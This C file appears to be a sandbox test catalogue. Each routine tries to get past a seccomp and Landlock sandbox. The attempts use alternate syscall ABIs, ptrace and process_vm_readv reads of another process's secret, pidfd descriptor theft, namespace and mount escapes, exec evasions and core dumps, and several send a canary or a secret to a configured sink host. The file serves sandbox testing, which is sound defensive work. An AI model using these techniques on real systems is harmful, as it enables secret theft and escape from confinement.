/* Around the filter and Landlock: section J of the catalogue.  The shim is gone; the act is that of section I unless something else is said. */
#include "../native.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define SECRET_LEN 40 /* of what the stranger holds */

/* Success is shown by the row's own canary: what the row's effect looks for in the output. */
static void had(const char *what)
{
	say("%s: %s", what, target("canary"));
}

/* --- tests/fixtures/bypass: one attempt each, by name ----------------------------------------------------------------------------- */

long bypass_one(const char *name, const char *file, const char **text);

static void attempt(const char *name)
{
	const char *text;
	int status;

	fflush(stdout);
	pid_t pid = fork();
	if (pid == 0) {
		alarm(8);
		long r = bypass_one(name, target("targets"), &text);
		say("%s: %ld", name, r);
		if (r >= 0)
			had(name);
		if (*text)
			loot(text, strlen(text));
		_exit(0);
	}
	waitpid(pid, &status, 0);
	if (status)
		say("%s: ended by %x", name, status);
}

static void attempts(void)
{
	char names[1024], *at = names, *name;

	snprintf(names, sizeof names, "%s", target("attempts"));
	while ((name = strsep(&at, " ")))
		attempt(name);
}

ACT(attempts)
{
	attempts();
	return 0;
}

/* --- other ABIs -------------------------------------------------------------------------------------------------------------------- */

ACT(x32)
{
#ifdef __x86_64__
	static char text[8192];
	const long bit = 0x40000000L;
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)target_number("sink_port"))};
	inet_pton(AF_INET, target("sink_host"), &to.sin_addr);
	int fd = (int)syscall(bit | SYS_openat, AT_FDCWD, target("secret"), O_RDONLY);
	say("x32 open: %d %s", fd, fd < 0 ? strerror(errno) : "");
	if (fd < 0)
		fd = (int)syscall(bit | SYS_open, target("secret"), O_RDONLY);
	ssize_t got = fd < 0 ? 0 : read(fd, text, sizeof text);
	if (got > 0)
		loot(text, (size_t)got);
	int s = (int)syscall(bit | SYS_socket, AF_INET, SOCK_STREAM, 0);
	if (s >= 0 && syscall(bit | SYS_connect, s, &to, sizeof to) == 0)
		had("x32 connect");
#endif
	return 0;
}

#ifdef __x86_64__
static long int80(long n, uint32_t a, uint32_t b, uint32_t c)
{
	long r;
	__asm__ volatile("int $0x80" : "=a"(r) : "a"(n), "b"((long)a), "c"((long)b), "d"((long)c) : "memory", "r8", "r9", "r10", "r11");
	return (int)r;
}
#endif

ACT(i386)
{
#ifdef __x86_64__
	enum { OPEN = 5, READ = 3, SOCKETCALL = 102, WRITE = 4 };
	char *low = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	uint32_t base = (uint32_t)(uintptr_t)low, *args = (uint32_t *)(low + 4096);
	struct sockaddr_in *to = (struct sockaddr_in *)(low + 8192);

	strcpy(low, target("secret"));
	long fd = int80(OPEN, base, O_RDONLY, 0);
	long got = fd < 0 ? fd : int80(READ, (uint32_t)fd, base + 16384, 8192);
	say("i386 open: %ld", fd);
	if (got > 0)
		loot(low + 16384, (size_t)got);
	*to = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons((uint16_t)target_number("sink_port"))};
	inet_pton(AF_INET, target("sink_host"), &to->sin_addr);
	args[0] = AF_INET, args[1] = SOCK_STREAM, args[2] = 0;
	long s = int80(SOCKETCALL, 1, base + 4096, 0);
	if (s < 0)
		s = socket(AF_INET, SOCK_STREAM, 0);
	args[0] = (uint32_t)s, args[1] = base + 8192, args[2] = sizeof *to;
	long r = int80(SOCKETCALL, 3, base + 4096, 0);
	say("i386 connect: %ld", r);
	if (r == 0)
		had("i386 connect");
#endif
	return 0;
}

/* --- a filter of its own on top ---------------------------------------------------------------------------------------------------------- */

static void install(struct sock_filter *code, unsigned short n)
{
	struct sock_fprog program = {.len = n, .filter = code};

	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_TSYNC, &program))
		say("seccomp: %s", strerror(errno));
}

static void on_sys(int number, siginfo_t *info, void *context)
{
	(void)number, (void)info, (void)context; /* what the caller gets is whatever was there: success, faked */
}

ACT(own_filter)
{
	struct sock_filter allow[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
	struct sock_filter trap[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getppid, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_TRAP),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sigaction action = {.sa_sigaction = on_sys, .sa_flags = SA_SIGINFO};

	install(allow, 1);
	pair();
	sigaction(SIGSYS, &action, NULL);
	install(trap, 4);
	syscall(SYS_getppid);
	pair();
	return 0;
}

/* --- the stranger: a process of the same user's, outside --------------------------------------------------------------------------------- */

static pid_t stranger(void)
{
	return (pid_t)target_number("stranger");
}

static void *its_secret(void)
{
	return (void *)(uintptr_t)target_number("stranger_address");
}

static void peek(pid_t pid, int request)
{
	long words[SECRET_LEN / sizeof(long)];
	int status;

	if (ptrace(request, pid, 0, 0)) {
		say("ptrace: %s", strerror(errno));
		return;
	}
	if (request == PTRACE_SEIZE)
		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	waitpid(pid, &status, __WALL);
	for (size_t i = 0; i < SECRET_LEN / sizeof(long); i++)
		words[i] = ptrace(PTRACE_PEEKDATA, pid, (char *)its_secret() + i * sizeof(long), 0);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	loot(words, sizeof words);
}

/* A child of its own as the one that injects. */
static void traced_child(void)
{
	int status;
	fflush(stdout);
	pid_t pid = fork();

	if (pid == 0) {
		ptrace(PTRACE_TRACEME, 0, 0, 0);
		raise(SIGSTOP);
		_exit(0);
	}
	waitpid(pid, &status, WUNTRACED);
	if (ptrace(PTRACE_CONT, pid, 0, 0) == 0)
		had("traced child");
	kill(pid, SIGKILL);
	waitpid(pid, &status, 0);
}

ACT(ptrace)
{
	peek(stranger(), PTRACE_SEIZE);
	peek(stranger(), PTRACE_ATTACH);
	traced_child();
	return 0;
}

static void vm_read(pid_t pid, void *address)
{
	char text[SECRET_LEN];
	struct iovec mine = {text, sizeof text}, its = {address, sizeof text};

	if (syscall(SYS_process_vm_readv, pid, &mine, 1, &its, 1, 0) == sizeof text) {
		loot(text, sizeof text);
		syscall(SYS_process_vm_writev, pid, &mine, 1, &its, 1, 0); /* what is there already */
	} else {
		say("process_vm_readv: %s", strerror(errno));
	}
}

ACT(memory)
{
	char path[64], text[SECRET_LEN];

	vm_read(stranger(), its_secret());
	vm_read(getppid(), its_secret());
	snprintf(path, sizeof path, "/proc/%d/mem", stranger());
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && pread(fd, text, sizeof text, (off_t)(uintptr_t)its_secret()) == sizeof text)
		loot(text, sizeof text);
	else
		say("%s: %s", path, strerror(errno));
	snprintf(path, sizeof path, "/proc/%d/maps", stranger());
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0)
		had("maps");
	snprintf(path, sizeof path, "/proc/%d/map_files", stranger());
	if (open(path, O_RDONLY | O_DIRECTORY) >= 0)
		had("map_files");
	return 0;
}

ACT(take_descriptor)
{
	pid_t whose[] = {stranger(), getppid(), getpid()};

	for (size_t i = 0; i < sizeof whose / sizeof *whose; i++) {
		int pidfd = (int)syscall(SYS_pidfd_open, whose[i], 0);
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, (int)target_number("stranger_fd"), 0);
		say("pidfd_getfd: %d %s", fd, fd < 0 ? strerror(errno) : "");
		if (fd >= 0 && whose[i] != getpid()) {
			char text[256];
			ssize_t n = pread(fd, text, sizeof text, 0);
			if (n > 0)
				loot(text, (size_t)n);
		}
	}
	return 0;
}

ACT(signals)
{
	struct rlimit few = {50, 50};
	unsigned long one = 1;

	attempts();
	if (syscall(SYS_prlimit64, stranger(), RLIMIT_NOFILE, &few, NULL) == 0)
		had("prlimit");
	if (syscall(SYS_sched_setaffinity, stranger(), sizeof one, &one) == 0)
		had("affinity");
	if (syscall(SYS_ioprio_set, 1, stranger(), 3 << 13) == 0)
		had("ioprio");
	return 0;
}

/* --- namespaces and mounts ---------------------------------------------------------------------------------------------------------------- */

static void namespaces(void)
{
	struct { uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls; } clone_args = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
	const int flags[] = {CLONE_NEWNET, CLONE_NEWNS, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET};

	for (size_t i = 0; i < sizeof flags / sizeof *flags; i++) {
		if (syscall(SYS_unshare, flags[i]) == 0)
			had("unshare");
		else
			say("unshare: %s", strerror(errno));
	}
	long pid = syscall(SYS_clone3, &clone_args, sizeof clone_args);
	if (pid == 0)
		_exit(0);
	if (pid > 0) {
		had("clone3");
		waitpid((pid_t)pid, NULL, 0);
	}
	int fd = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC);
	if (syscall(SYS_setns, fd, CLONE_NEWNET) == 0)
		had("setns");
	mkdir("pwfix-mnt", 0755);
	/* In a namespace of its own by now, or refused. */
	if (syscall(SYS_mount, "/", "pwfix-mnt", NULL, 4096UL, NULL) == 0) {
		had("mount");
		syscall(SYS_umount2, "pwfix-mnt", 2);
	}
	if (syscall(SYS_pivot_root, "pwfix-mnt", "pwfix-mnt") == 0)
		had("pivot_root");
	if (syscall(SYS_chroot, ".") == 0)
		had("chroot");
}

ACT(namespaces)
{
	int status;

	fflush(stdout);
	pid_t pid = fork();
	if (pid == 0) {
		namespaces();
		fflush(stdout);
		_exit(0);
	}
	waitpid(pid, &status, 0);
	return 0;
}

ACT(new_mounts)
{
	uint64_t attr[4] = {0};
	struct { const char *name; long result; } calls[] = {
		{"open_tree", syscall(428, AT_FDCWD, "/", 0)}, {"open_tree clone", syscall(428, AT_FDCWD, "/", 1)}, {"fsopen", syscall(430, "tmpfs", 0)},
		{"fspick", syscall(433, AT_FDCWD, "/", 0)}, {"move_mount", syscall(429, AT_FDCWD, "/nowhere", AT_FDCWD, "/nowhere", 0)},
		{"mount_setattr", syscall(442, AT_FDCWD, "/nowhere", 0, attr, sizeof attr)},
	};

	for (size_t i = 0; i < sizeof calls / sizeof *calls; i++) {
		say("%s: %ld", calls[i].name, calls[i].result);
		if (calls[i].result >= 0)
			had(calls[i].name);
	}
	return 0;
}

ACT(machine)
{
	static const char *const devices[] = {"/dev/mem", "/dev/kmsg", "/dev/port", "/sys/kernel/debug/tracing/trace", "/proc/kcore", "/proc/kallsyms.none"};

	attempts();
	syscall(SYS_kexec_load, 0, 0, NULL, 0);
#ifdef SYS_iopl
	if (syscall(SYS_iopl, 3) == 0)
		had("iopl");
#endif
	for (size_t i = 0; i < sizeof devices / sizeof *devices; i++) {
		int fd = open(devices[i], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
		if (fd >= 0)
			had(devices[i]);
	}
	return 0;
}

/* --- what Landlock does not see -------------------------------------------------------------------------------------------------------------- */

static int unix_connect(const char *path, int abstract, int type)
{
	struct sockaddr_un to = {.sun_family = AF_UNIX};
	size_t len = strlen(path);
	memcpy(to.sun_path + abstract, path, len);
	int s = socket(AF_UNIX, type, 0);
	int r = s < 0 ? -1 : connect(s, (struct sockaddr *)&to, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + (size_t)abstract + len));
	if (r == 0)
		r = write(s, "hello", 5) == 5 ? s : -1;
	return r;
}

static void blind_metadata(const char *path)
{
	struct timeval then[2] = {{1, 0}, {1, 0}};

	if (chmod(path, 0777) == 0)
		had("chmod");
	if (utimes(path, then) == 0)
		had("utimes");
	if (truncate(path, 0) == 0)
		had("truncate");
	if (syscall(SYS_setxattr, path, "user.pwfix", "1", 1, 0) == 0)
		had("setxattr");
	int fd = open(path, O_PATH);
	char self[64];
	snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
	if (chmod(self, 0777) == 0)
		had("chmod by descriptor");
}

ACT(blind)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)target_number("udp_port"))};
	char text[128];

	blind_metadata(target("victim"));
	for (int fd = 3; fd < 64; fd++) { /* open since before it was restricted */
		if (pread(fd, text, sizeof text, 0) > 0 && strstr(text, "CANARY"))
			loot(text, sizeof text);
	}
	inet_pton(AF_INET, target("sink_host"), &to.sin_addr);
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	sendto(s, target("canary"), strlen(target("canary")), 0, (struct sockaddr *)&to, sizeof to);
	unix_connect(target("socket"), 0, SOCK_STREAM);
	unix_connect(target("abstract"), 1, SOCK_STREAM);
	snprintf(text, sizeof text, "%s.fifo", target("victim"));
	if (mknod(text, S_IFIFO | 0600, 0) == 0)
		had("fifo");
	return 0;
}

static void receive(int s)
{
	union { struct cmsghdr head; char space[CMSG_SPACE(sizeof(int))]; } control = {{0}};
	char byte;
	struct iovec io = {&byte, 1};
	struct msghdr m = {.msg_iov = &io, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};

	if (s >= 0 && recvmsg(s, &m, 0) >= 0 && m.msg_controllen >= CMSG_LEN(sizeof(int)))
		loot_fd(*(int *)CMSG_DATA(&control.head));
}

ACT(laundered)
{
	char path[64];

	receive(unix_connect(target("launderer"), 0, SOCK_STREAM));
	receive(unix_connect(target("abstract"), 1, SOCK_STREAM));
	snprintf(path, sizeof path, "/proc/%d/fd/%s", stranger(), target("stranger_fd"));
	loot_file(path);
	return 0;
}

/* --- many at once: an honest program that stresses the listener ---------------------------------------------------------------------------------- */

static void nothing(int number)
{
	(void)number;
}

static void *busy(void *arg)
{
	unsigned long *opened = arg;

	for (int i = 0; i < 50; i++) {
		int fd = open("/etc/passwd", O_RDONLY | O_CLOEXEC);
		while (fd < 0 && errno == EINTR)
			fd = open("/etc/passwd", O_RDONLY | O_CLOEXEC);
		if (fd >= 0 && close(fd) == 0)
			(*opened)++;
		if (i == 25 && *opened % 7 == 0) {
			pid_t pid = fork();
			if (pid == 0)
				_exit(open("/etc/passwd", O_RDONLY) < 0);
			waitpid(pid, NULL, 0);
		}
	}
	return NULL;
}

ACT(flood)
{
	enum { THREADS = 100 };
	static pthread_t thread[THREADS];
	static unsigned long opened[THREADS];
	struct sigaction plain = {.sa_handler = nothing}, restart = {.sa_handler = nothing, .sa_flags = SA_RESTART};
	struct itimerval often = {{0, 1000}, {0, 1000}}, never = {{0, 0}, {0, 0}};
	unsigned long sum = 0;
	int made = 0, status;

	sigaction(SIGALRM, &plain, NULL);
	sigaction(SIGPROF, &restart, NULL);
	setitimer(ITIMER_REAL, &often, NULL);
	setitimer(ITIMER_PROF, &often, NULL);
	for (int i = 0; i < 20; i++) { /* ends while a question of its own is pending */
		pid_t pid = fork();
		if (pid == 0) {
			alarm(1);
			setitimer(ITIMER_REAL, &never, NULL);
			for (;;)
				close(open("/etc/passwd", O_RDONLY));
		}
		usleep(1000);
		kill(pid, SIGKILL);
		while (waitpid(pid, &status, 0) < 0 && errno == EINTR)
			;
	}
	while (made < THREADS && pthread_create(&thread[made], NULL, busy, &opened[made]) == 0)
		made++;
	for (int i = 0; i < made; i++)
		pthread_join(thread[i], NULL), sum += opened[i];
	setitimer(ITIMER_REAL, &never, NULL);
	setitimer(ITIMER_PROF, &never, NULL);
	say("opened %lu of %d", sum, made * 50);
	if (made == THREADS && sum == THREADS * 50)
		had("all of them");
	return 0;
}

/* --- exec ------------------------------------------------------------------------------------------------------------------------------------------ */

static void in_child(const char *what, void (*f)(void))
{
	int status;

	fflush(stdout);
	pid_t pid = fork();
	if (pid == 0) {
		f();
		say("%s: %s", what, strerror(errno));
		_exit(9);
	}
	waitpid(pid, &status, 0);
	say("%s: %x", what, status);
}

static char *pair_argv[] = {(char *)"x", (char *)"pair", NULL, NULL}, *empty[] = {NULL};
static char program[4096], link_path[4096], long_path[4096];

static void by_dirfd(void)
{
	char *slash = strrchr(program, '/');
	*slash = '\0';
	int dir = open(program, O_PATH | O_DIRECTORY);
	syscall(SYS_execveat, dir, slash + 1, pair_argv, empty, 0);
}

static void by_own(void) { syscall(SYS_execve, "/proc/self/exe", pair_argv, empty); }
static void by_fd(void)
{
	int fd = open("/proc/self/exe", O_PATH | O_CLOEXEC);
	syscall(SYS_execveat, fd, "", pair_argv, empty, AT_EMPTY_PATH);
}

static void copy_to(int to)
{
	char buffer[65536];
	ssize_t n;
	int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	while ((n = read(from, buffer, sizeof buffer)) > 0)
		if (write(to, buffer, (size_t)n) != n)
			break;
	close(from);
}

static void by_memfd(void)
{
	int fd = (int)syscall(SYS_memfd_create, "pwfix", 0);
	copy_to(fd);
	syscall(SYS_execveat, fd, "", pair_argv, empty, AT_EMPTY_PATH);
}

static int copied(const char *path)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	copy_to(fd);
	close(fd);
	return fd;
}

static void by_deleted(void)
{
	copied(link_path);
	int fd = open(link_path, O_PATH);
	unlink(link_path);
	syscall(SYS_execveat, fd, "", pair_argv, empty, AT_EMPTY_PATH);
}

static void by_long_name(void)
{
	copied(long_path);
	syscall(SYS_execve, long_path, pair_argv, empty);
}

/* #! chains, four deep, that end in this program with an argument. */
static void by_scripts(void)
{
	char script[4200], last[4200];

	copied(long_path);
	snprintf(last, sizeof last, "%s", long_path);
	for (int i = 0; i < 4; i++) {
		snprintf(script, sizeof script, "%s.%d", link_path, i);
		FILE *f = fopen(script, "w");
		fprintf(f, "#!%s%s\n", last, i ? "" : " pair");
		fclose(f);
		chmod(script, 0755);
		snprintf(last, sizeof last, "%s", script);
	}
	char *argv[] = {last, NULL};
	setenv("PWFIX_TARGETS", target("targets"), 1);
	execve(last, argv, environ);
}

static void by_folder(void) { syscall(SYS_execve, "/tmp", pair_argv, empty); }

ACT(execs)
{
	const char *temp = getenv("TMPDIR");

	pair_argv[2] = (char *)target("targets");
	(void)!readlink("/proc/self/exe", program, sizeof program - 1);
	snprintf(link_path, sizeof link_path, "%s/pwfix-gone", temp ? temp : "/tmp");
	snprintf(long_path, sizeof long_path, "%s/%0250d", temp ? temp : "/tmp", 7);
	in_child("dirfd", by_dirfd);
	in_child("itself", by_own);
	in_child("descriptor", by_fd);
	in_child("memfd", by_memfd);
	in_child("deleted", by_deleted);
	in_child("long name", by_long_name);
	snprintf(long_path, sizeof long_path, "%s/pwfix-%d", temp ? temp : "/tmp", getpid());
	in_child("scripts", by_scripts);
	in_child("folder", by_folder);
	unlink(long_path);
	return 0;
}

/* --- core dumps ------------------------------------------------------------------------------------------------------------------------------------------ */

ACT(core)
{
	struct rlimit all = {RLIM_INFINITY, RLIM_INFINITY};
	char folder[4096], path[4200];
	static char held[64];
	int status;

	snprintf(held, sizeof held, "CORE %s", target("canary"));
	prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
	prctl(0x59616d61 /* PR_SET_PTRACER */, -1UL, 0, 0, 0);
	if (setrlimit(RLIMIT_CORE, &all)) {
		getrlimit(RLIMIT_CORE, &all);
		all.rlim_cur = all.rlim_max;
		setrlimit(RLIMIT_CORE, &all);
	}
	syscall(SYS_prlimit64, stranger(), RLIMIT_CORE, &all, NULL);
	snprintf(folder, sizeof folder, "%s/pwfix-core-XXXXXX", getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp");
	if (!mkdtemp(folder) || chdir(folder))
		return 1;
	fflush(stdout);
	pid_t pid = fork();
	if (pid == 0) {
		signal(SIGSEGV, SIG_DFL);
		raise(SIGSEGV);
		_exit(0);
	}
	waitpid(pid, &status, 0);
	say("core: %s", WCOREDUMP(status) ? "dumped" : "none");
	snprintf(path, sizeof path, "core");
	if (access(path, R_OK))
		snprintf(path, sizeof path, "core.%d", pid);
	int fd = open(path, O_RDONLY);
	char *text = fd < 0 ? MAP_FAILED : mmap(NULL, 1 << 20, PROT_READ, MAP_PRIVATE, fd, 0);
	struct stat st;
	if (text != MAP_FAILED && fstat(fd, &st) == 0 && st.st_size > 0)
		had("core dumped");
	unlink(path);
	return 0;
}
